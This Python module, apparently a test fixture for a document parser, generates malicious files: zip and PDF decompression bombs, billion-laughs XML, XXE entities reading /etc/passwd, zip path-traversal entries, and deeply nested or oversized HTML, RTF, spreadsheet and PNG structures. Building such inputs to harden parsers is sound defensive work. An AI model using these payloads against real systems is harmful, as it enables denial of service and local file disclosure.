"""Documents made to harm whoever reads them: bombs, mazes, lures. Each is small on the disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage

MEGABYTE = 1024 * 1024
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><x>&j;</x>"
)
LURE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lure SYSTEM "file:///etc/passwd">]><x>&lure;</x>'


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with(document_xml: bytes) -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES.encode(), "word/document.xml": document_xml})


def pdf_with(*objects: str | bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        data = body.encode() if isinstance(body, str) else body
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    out += f"trailer << /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
ONE_PAGE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def stream(data: bytes, entries: str = "") -> bytes:
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def pdf_many_pages() -> bytes:
    kids = " ".join(["3 0 R"] * 300_000)
    return pdf_with(CATALOG, f"<< /Type /Pages /Kids [{kids}] /Count 300000 >>", "<< /Type /Page /Parent 2 0 R >>")


def pdf_false_count() -> bytes:
    return pdf_with(CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", "<< /Type /Page /Parent 2 0 R >>")


def pdf_circle_of_pages() -> bytes:
    return pdf_with(CATALOG, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>")


def pdf_deep_arrays() -> bytes:
    return pdf_with(CATALOG, ONE_PAGE, f"<< /Type /Page /Parent 2 0 R /Contents {'[' * 200_000}{']' * 200_000} >>")


def pdf_stream_bomb() -> bytes:
    data = zlib.compress(zlib.compress(b"0 0 m 9 9 l S\n" * 6_000_000, 6), 9)
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return pdf_with(CATALOG, ONE_PAGE, page, stream(data, "/Filter [/FlateDecode /FlateDecode]"))


def pdf_forms_within_forms() -> bytes:
    """Each form draws the next ten times: ten to the ninth marks from two kilobytes."""
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >> /Contents 4 0 R >>"
    forms: list[str | bytes] = [
        stream(
            b"/F Do " * 10,
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {number + 1} 0 R >> >>",
        )
        for number in range(5, 14)
    ]
    last = stream(b"0 0 m 9 9 l S", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return pdf_with(CATALOG, ONE_PAGE, page, stream(b"/F Do"), *forms, last)


def pdf_form_in_itself() -> bytes:
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >> /Contents 4 0 R >>"
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    return pdf_with(CATALOG, ONE_PAGE, page, stream(b"/F Do"), stream(b"/F Do /F Do", form))


def pdf_many_lines() -> bytes:
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    lines = b"".join(
        f"{n % 595} 0 m {n % 595} 842 l S 0 {n % 842} m 595 {n % 842} l S\n".encode() for n in range(60_000)
    )
    return pdf_with(CATALOG, ONE_PAGE, page, stream(zlib.compress(lines, 9), "/Filter /FlateDecode"))


def pdf_circle_of_tables() -> bytes:
    """A cross-reference table whose earlier one is itself."""
    data = pdf_with(CATALOG, ONE_PAGE, "<< /Type /Page /Parent 2 0 R >>")
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", f"/Prev {start} /Root 1 0 R".encode())


def zip_bomb() -> bytes:
    return zipped({"report.html": bytes(120 * MEGABYTE)})


def zip_of_zips() -> bytes:
    inner = zipped({"report.html": bytes(50 * MEGABYTE)})
    for _ in range(6):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return inner


def zip_of_many_files() -> bytes:
    return zipped({f"{number}.html": b"" for number in range(60_000)}, zipfile.ZIP_STORED)


def zip_that_climbs() -> bytes:
    return zipped({"../../../../tmp/gouji_climbed.html": b"<p>out</p>", "/tmp/gouji_climbed.html": b"<p>out</p>"})


def zip_with_overlapping_files() -> bytes:
    """A thousand entries that all name the same compressed bytes, as in Fifield's bombs."""
    data = bytearray(zipped({"a.html": bytes(20 * MEGABYTE)}))
    end = data.rindex(b"PK\x05\x06")
    (size, start) = struct.unpack_from("<II", data, end + 12)
    entry = bytes(data[start : start + size])
    directory = entry * 1000
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(directory), start, 0)
    return bytes(data[:start]) + directory + tail


def docx_bomb() -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    head = f'<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>'.encode()
    return docx_with(head + b" " * (100 * MEGABYTE) + b"</w:t></w:r></w:p></w:body></w:document>")


def docx_deep_tables() -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    nested = "<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000
    return docx_with(f'<w:document xmlns:w="{space}"><w:body>{nested}</w:body></w:document>'.encode())


def docx_wide_cell() -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc>'
    return docx_with(
        f'<w:document xmlns:w="{space}"><w:body><w:tbl><w:tr>{cell}</w:tr></w:tbl></w:body></w:document>'.encode()
    )


def docx_billion_laughs() -> bytes:
    return docx_with(LAUGHS.encode())


def docx_lure() -> bytes:
    return docx_with(LURE.encode())


def odt_repeated_cells() -> bytes:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    )
    table = (
        '<table:table><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000000"/></table:table-row></table:table>'
    )
    body = f"<office:document-content {spaces}><office:body><office:text>{table}</office:text></office:body></office:document-content>"
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": body.encode()})


def odt_billion_laughs() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": LAUGHS.encode()})


def ofd_billion_laughs() -> bytes:
    return zipped({"OFD.xml": LAUGHS.encode()})


def ofd_lure() -> bytes:
    return zipped({"OFD.xml": LURE.encode()})


def ofd_circle() -> bytes:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    root = f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>OFD.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    return zipped({"OFD.xml": root.encode()})


def xlsx_far_cell() -> bytes:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    linked = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    book = f'<workbook xmlns="{main}" xmlns:r="{linked}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    sheet = f'<worksheet xmlns="{main}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    return zipped(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{linked}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{linked}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
        }
    )


def sheet_xml_billion_laughs() -> bytes:
    return LAUGHS.replace("<x>", '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/><x>', 1).encode()


def sheet_xml_far_cells() -> bytes:
    space = "urn:schemas-microsoft-com:office:spreadsheet"
    cell = '<Cell ss:Index="{0}" ss:MergeAcross="999999999" ss:MergeDown="999999999"><Data ss:Type="Number">1</Data></Cell>'
    rows = "".join(f'<Row ss:Index="{row * 1000 + 1}">{cell.format(row * 10 + 1)}</Row>' for row in range(4_000))
    return (
        f'<Workbook xmlns="{space}" xmlns:ss="{space}"><Worksheet><Table>{rows}</Table></Worksheet></Workbook>'.encode()
    )


def csv_wide_and_long() -> bytes:
    return ("1,2,a\n" * 50 + "1," * 2_000_000 + "\n" + "3,4,b\n" * 1_000_000).encode()


def csv_field_without_end() -> bytes:
    return ("1,2,a\n" * 500 + '"' + "x" * 5_000_000).encode()


def word_xml_billion_laughs() -> bytes:
    return LAUGHS.replace("<x>", '<?mso-application progid="Word.Document"?><x>', 1).encode()


def html_nested_tags() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + "政府信息公开工作年度报告".encode() + b"</div>" * 100_000


def html_nested_tables() -> bytes:
    return b"<table><tr><td>" * 20_000 + "一、主动公开".encode()


def html_million_cells() -> bytes:
    return b"<table>" + (b"<tr>" + b"<td>1</td>" * 1000 + b"</tr>") * 1000 + b"</table>"


def html_absurd_spans() -> bytes:
    return b'<table><tr><td colspan="65534" rowspan="65534">x</td></tr><tr><td>1</td></tr></table>' * 50


def html_many_spans() -> bytes:
    return b"<table>" + b'<tr><td rowspan="65534">x</td></tr>' * 5_000 + b"</table>"


def html_many_attributes() -> bytes:
    return b"<table><tr><td " + b" ".join(f"a{n}=1".encode() for n in range(500_000)) + b">x</td></tr></table>"


def html_long_line() -> bytes:
    return b"<html><body><p>" + "政府信息公开工作年度报告".encode() * 1_000_000


def html_many_long_tags() -> bytes:
    tag = b"<td " + b" ".join(f"a{n}=1".encode() for n in range(5_000)) + b">1</td>"
    return b"<table><tr>" + tag * 400 + b"</tr></table>"


def html_many_rows_of_tables() -> bytes:
    return b"<div><table><tr><td>1<td>2</table></div>" * 60_000


def text_long_line() -> bytes:
    return "政府信息公开工作年度报告".encode() * 1_000_000


def html_lure() -> bytes:
    return b"<!DOCTYPE x [<!ENTITY lure SYSTEM 'file:///etc/passwd'>]><html><body><p>&lure;</p></body></html>"


def text_many_digits() -> bytes:
    return ("一、主动公开政府信息情况\n" + "9" * 5_000_000 + "件\n").encode()


def text_many_rows() -> bytes:
    return ("政府信息公开工作年度报告\n本年新收政府信息公开申请数量\n" + "1\t2\t3\t4\t5\t6\t7\n" * 300_000).encode()


def rtf_deep_groups() -> bytes:
    return b"{\\rtf1 " + b"{" * 300_000 + b"x" + b"}" * 300_000 + b"}"


def rtf_long_number() -> bytes:
    return b"{\\rtf1 \\bin2147483647 x \\u" + b"9" * 100_000 + b" }"


def rtf_unknown_code_page() -> bytes:
    return b"{\\rtf1\\ansi\\ansicpg965535 \\'d5\\'fe\\'b8\\'ae}"


def mhtml_deep_parts() -> bytes:
    message = EmailMessage()
    message.set_content("<p>x</p>", subtype="html")
    text = message.as_bytes()
    for number in range(3_000):
        head = f'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b{number}"\n\n--b{number}\n'
        text = head.encode() + text + f"\n--b{number}--\n".encode()
    return text


def png_huge() -> bytes:
    header = struct.pack(">IIBBBBB", 200_000, 200_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(20 * MEGABYTE), 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


HOSTILE: dict[str, Callable[[], bytes]] = {
    name: made
    for name, made in list(globals().items())
    if name.split("_")[0]
    in {"pdf", "zip", "docx", "odt", "ofd", "xlsx", "sheet", "csv", "word", "html", "text", "rtf", "mhtml", "png"}
    and name not in {"pdf_with", "docx_with"}
    and callable(made)
}
